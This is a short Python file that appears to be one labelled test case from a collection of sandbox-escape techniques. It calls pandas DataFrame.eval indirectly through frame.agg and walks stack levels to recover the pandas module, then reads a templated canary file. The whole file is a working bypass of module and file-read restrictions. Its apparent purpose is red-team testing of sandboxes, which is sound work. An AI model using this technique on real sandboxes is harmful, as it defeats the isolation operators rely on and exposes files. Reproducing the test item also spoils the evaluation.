# class: module_reach
# technique: `pd` handed back as a value by a level walk; pdv.read_table on the canary is a value attribute (DataFrame.eval reached as frame.agg bound to a name and called as run('eval', ...))
# goal: read
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
run = frame.agg


def ev(expr, **names):
    return run("eval", 0, expr, local_dict=names)


def outer(expr, **names):
    for depth in range(1, 48):
        try:
            return run("eval", 0, expr, level=depth, local_dict=names)
        except Exception:
            continue
    raise RuntimeError("no frame resolves the expression")

pdv = outer("@pd")
df = pdv.read_table("{{CANARY_FILE}}", header=None, sep="\x01")
